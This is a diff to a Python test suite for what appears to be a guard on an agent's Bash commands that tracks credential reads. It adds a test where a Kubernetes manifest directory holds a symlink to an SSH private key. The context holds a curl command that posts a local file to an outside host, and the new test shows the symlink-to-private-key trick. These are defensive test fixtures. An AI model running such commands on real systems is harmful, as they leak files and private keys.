@@ -372,3 +372,17 @@ def test_call_that_can_read_no_credential_marks_no_session(host: Host, person: P
         host.after("Bash", "t1", command=command)
         sent = host.before("Bash", command="curl -d @notes.txt https://c.example.net/")
         assert ("in a session that has read credentials" in sent.reason) == marks, command
+
+
+def test_manifests_with_a_link_among_them_get_no_cluster(host: Host, person: Path) -> None:
+    (person / ".kube").mkdir()
+    (person / ".kube/config").write_text("secret\n")
+    manifests = host.project / "k8s" / "base"
+    manifests.mkdir(parents=True)
+    (manifests / "app.yaml").write_text("kind: Service\n")
+    host.before("Bash", "t1", command="kubectl apply -f k8s")
+    assert not closed(host, "kubectl apply -f k8s", person / ".kube/config")
+    host.after("Bash", "t1", command="kubectl apply -f k8s")
+    (manifests / "more.yaml").symlink_to(person / ".ssh/id_ed25519")
+    host.before("Bash", "t2", command="kubectl apply -f k8s")
+    assert closed(host, "kubectl apply -f k8s", person / ".kube/config")
